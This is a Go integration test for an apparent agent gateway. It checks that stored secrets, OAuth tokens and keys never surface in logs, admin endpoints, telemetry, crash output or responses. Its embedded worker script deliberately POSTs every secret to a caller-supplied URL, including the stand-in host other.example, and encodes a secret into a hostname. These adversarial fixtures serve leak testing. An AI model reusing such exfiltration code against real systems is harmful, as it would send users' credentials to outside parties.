package integration

import (
	"fmt"
	"io"
	"net/http"
	"net/url"
	"os"
	"os/exec"
	"path/filepath"
	"strings"
	"sync/atomic"
	"syscall"
	"testing"

	"github.com/gatehouse-edge/gatehouse/access"
	"github.com/gatehouse-edge/gatehouse/secrets"
)

// everySecretAgent uses its secrets as it is told to, and fails in as many ways.
const everySecretAgent = `import { DurableObject } from "cloudflare:workers";
export class Keeper extends DurableObject {
	async keep(digest) { await this.ctx.storage.put("digest", digest); throw new Error("kept " + this.env.KEY); }
}
export default { async fetch(request, env, ctx) {
	const { pathname, searchParams: q } = new URL(request.url);
	const all = [env.KEY, await env.STORED.get(), await env.LOGIN.get()];
	switch (pathname) {
	case "/call": { const r = await fetch(q.get("to"), { method: "POST", body: "text" }); return new Response(await r.text(), { status: r.status, headers: r.headers }); }
	case "/leak": return fetch(q.get("to"), { method: "POST", body: all.join() });
	case "/tool": await ctx.tool("tool " + all[0], all, () => { throw new Error(all[1]) }).catch(() => ctx.tool("again", all[0], () => all)); return new Response("called");
	case "/mcp": { const r = await fetch(q.get("to"), { method: "POST", headers: { "Content-Type": "application/json" }, body: JSON.stringify({ jsonrpc: "2.0", id: 1, method: "tools/call", params: { name: "see", arguments: {} } }) }); return new Response(await r.text()); }
	case "/log": console.log(all, btoa(all[0])); console.error(new Error(all[1])); return new Response("logged");
	case "/throw": throw new TypeError(all.join());
	case "/actor": return new Response(await env.KEEPER.getByName("k").keep("nothing").catch(e => "failed"));
	case "/spin": for (;;) all.push(all[0]);
	case "/hang": await new Promise(done => setTimeout(done, 60000, all)); break;
	case "/crash": globalThis.kept = all; await fetch(q.get("to"), { method: "POST" }); await new Promise(done => setTimeout(done, 5000)); return new Response("survived");
	case "/url": return fetch("https://" + all[0].replace(/[^a-z0-9]/gi, "") + ".example/" + all[1]);
	}
	return new Response("fine");
} }`

// TestNoSecretIsWrittenDown uses secrets of every kind, fails in every way, crashes cells and the server, and looks for each value in
// everything that was written or said.
func TestNoSecretIsWrittenDown(t *testing.T) {
	t.Parallel()
	values := map[string]string{
		"key": "key-of-the-code-0123456789", "stored": "stored+secret/0123456789=", "bearer": "bearer-0123456789-abcdef", "password": "pass word&0123456789",
		"query": "query-0123456789-zyx", "hmac": "hmac-key-0123456789", "aws": "aws/secret+0123456789", "crm": oauthSecret,
	}
	var reached atomic.Int64
	api := newOutside(t, func(w http.ResponseWriter, r *http.Request) {
		reached.Add(1)
		b, _ := io.ReadAll(r.Body)
		w.Header().Set("X-Echo", r.Header.Get("Authorization"))
		if strings.Contains(string(b), "tools/call") { // a tool that gives back what it was sent
			w.Header().Set("Content-Type", "application/json")
			fmt.Fprintf(w, `{"jsonrpc":"2.0","id":1,"error":{"message":"what came: %s"}}`, r.Header.Get("Authorization"))
			return
		}
		if r.URL.Path == "/broken" {
			w.WriteHeader(http.StatusInternalServerError)
		}
		fmt.Fprint(w, r.Header, r.URL, string(b))
	})
	o, collected := newOAuthServer(t), newCollector(t)
	proxySecret, digest := access.NewServiceToken()
	proxyPort := freePort(t)
	rule := func(path, inject string) string {
		return fmt.Sprintf("\tallow %s {\n\t\tpaths %s\n\t\tinject %s\n\t\tinject_over_http\n\t}\n", api.host(), path, inject)
	}
	s := newServer(t, map[string]string{
		"Caddyfile": site(fmt.Sprintf(`records {
	tool_text
}
audit ./audit {
	fail closed
}
telemetry
%segress out {
%s	allow *.localhost
	allow_ip 127.0.0.1 ::1
	dlp secrets
	sign http://127.0.0.1:%d
	timeout 3s
}
agent user {
	main ./user.ts
	secret KEY key
	secret_store STORED stored
	oauth LOGIN login
	durable KEEPER Keeper
	egress out
	limits {
		cpu 200ms
		wall 2s
	}
}`, o.client("login"),
			rule("/bearer", "bearer {secret.bearer}")+rule("/broken", "bearer {oauth.login}")+rule("/basic", "basic user {secret.password}")+rule("/query", "query key {secret.query}")+
				rule("/hmac", `hmac X-Signature "sha256={hmac}" {secret.hmac}`)+rule("/aws", "aws_sigv4 eu-west-1 service AKIDEXAMPLE {secret.aws}"), proxyPort),
			"log\nagent_dashboard {\n\tlocal\n}\nagent user\nhandle_errors {\n\trespond \"{err.status_code} {err.message}\"\n}") + fmt.Sprintf("\nhttp://:%d {\n\tlog\n\tkey_directory http://127.0.0.1:%[1]d\n\tegress_proxy out {\n\t\tclient program %s\n\t\tintercept\n\t}\n}\n", proxyPort, digest),
		"user.ts": everySecretAgent,
		"start":   "#!/bin/sh\nulimit -c unlimited\nexec " + binary + " \"$@\"\n",
	})
	if err := os.Chmod(filepath.Join(s.dir, "start"), 0o700); err != nil {
		t.Fatal(err)
	}
	for name, value := range values {
		s.must(value, "gatehouse", "secret", "put", name)
	}
	s.must(o.seed, "gatehouse", "secret", "put", "login")
	s.environ = collected.environ()
	s.program = filepath.Join(s.dir, "start")
	s.start()
	admin := fmt.Sprintf("127.0.0.1:%d", s.admin)
	tail := s.follow("gatehouse", "tail", "--address", admin, "--json")
	var seen []string
	get := func(path string) string {
		resp, body, err := s.try("GET", path, "")
		if err == nil {
			seen = append(seen, fmt.Sprint(path, resp.StatusCode, resp.Header, body))
		}
		return body
	}
	for _, path := range []string{"bearer", "broken", "basic", "query", "hmac", "aws"} {
		if body := get("/call?to=" + url.QueryEscape(api.URL+"/"+path)); !strings.Contains(body, "map[") {
			t.Errorf("%s: %s", path, body)
		}
		get("/leak?to=" + url.QueryEscape(api.URL+"/"+path))
	}
	mustContain(t, "a tool that says what it was sent", get("/mcp?to="+url.QueryEscape(api.URL+"/bearer")), "what came")
	for _, to := range []string{"http://gone.localhost:1/", "http://127.0.0.1:1/", "https://other.example/", "http://x.localhost:" + fmt.Sprint(api.port())} {
		get("/call?to=" + url.QueryEscape(to))
		get("/leak?to=" + url.QueryEscape(to))
	}
	for _, path := range []string{"/", "/tool", "/log", "/throw", "/actor", "/spin", "/hang", "/url"} {
		get(path)
	}
	for _, args := range [][]string{{api.URL + "/bearer"}, {"https://other.example/"}, {api.URL + "/none"}} {
		out, _ := exec.Command("curl", append([]string{"--silent", "--insecure", "--noproxy", "", "--max-time", "10", "--proxy", fmt.Sprintf("http://program:%s@127.0.0.1:%d", proxySecret, proxyPort)}, args...)...).Output()
		seen = append(seen, string(out))
	}
	// Cells that hold the values in their memory crash, in ways that leave a core file where one may be left.
	for _, sig := range []syscall.Signal{syscall.SIGSEGV, syscall.SIGABRT} {
		done := make(chan struct{})
		go func() {
			defer close(done)
			get("/crash?to=" + url.QueryEscape(api.URL+"/bearer"))
		}()
		offset, before := len(s.logged()), reached.Load()
		s.wait("the code to hold its secrets", func() bool { return reached.Load() > before })
		cells := children(t, s.cmd.Process.Pid)
		if len(cells) == 0 {
			t.Fatal("there are no cells")
		}
		for _, c := range cells {
			_ = syscall.Kill(c.pid, sig)
		}
		<-done
		s.wait("the cell to end", func() bool { return strings.Contains(s.logged()[offset:], "a cell has ended") })
	}
	for _, uri := range []string{"/config/", "/gatehouse/approvals?all", "/reverse_proxy/upstreams", "/debug/pprof/goroutine?debug=2", "/debug/pprof/cmdline", "/metrics"} {
		resp, err := http.Get("http://" + admin + uri)
		if err != nil {
			t.Fatal(err)
		}
		b, _ := io.ReadAll(resp.Body)
		resp.Body.Close()
		seen = append(seen, string(b))
	}
	list := get("/gatehouse/api/records")
	for _, r := range decode[struct{ Rows []struct{ ID string } }](t, list).Rows {
		get("/gatehouse/api/records/" + r.ID)
	}
	for _, view := range []string{"graph", "refusals", "unusual", "agents", "approvals?all=1", "namespaces"} {
		get("/gatehouse/api/" + view)
	}
	s.wait("the collector", func() bool {
		collected.mu.Lock()
		defer collected.mu.Unlock()
		return strings.Contains(string(collected.raw), "execute_tool see")
	})
	collected.mu.Lock()
	seen = append(seen, string(collected.raw))
	collected.mu.Unlock()
	seen = append(seen, s.must("", "gatehouse", "secret", "list", "--json"), s.must("", "gatehouse", "actors", "export"), s.must("", "gatehouse", "approvals", "list", "--all", "--address", admin))
	for len(tail) > 0 {
		seen = append(seen, <-tail)
	}
	// The server crashes: what the runtime prints of it is in its log.
	s.end(syscall.SIGABRT)
	mustContain(t, "the log", s.logged(), "SIGABRT", "goroutine ")

	// What the vault holds besides what was put: tokens, and keys that the server has made.
	ring, err := secrets.KeyringFile{Path: filepath.Join(s.dir, "data", "keyring.json")}.Open()
	if err != nil {
		t.Fatal(err)
	}
	vault, err := secrets.OpenVault(secrets.VaultConfig{Path: filepath.Join(s.dir, "data", "secrets.json"), Keyring: ring})
	if err != nil {
		t.Fatal(err)
	}
	held, err := vault.Values()
	if err != nil {
		t.Fatal(err)
	}
	if len(held) < len(values)+6 {
		t.Errorf("the vault has only %d values", len(held))
	}
	for name, value := range held {
		if name == "proxy-ca/program/certificate" || name == "oauth/login/state" {
			continue // public, and no secret
		}
		values[name] = value.Reveal()
	}
	values["the proxy's client"] = proxySecret
	for i, token := range o.tokens {
		values[fmt.Sprintf("token %d", i)] = token
	}
	cores, err := filepath.Glob(filepath.Join(s.dir, "core*"))
	if err != nil || len(cores) > 0 {
		t.Errorf("core files: %v, %v", cores, err)
	}
	for _, value := range values {
		s.nowhere(value, seen...)
	}
}
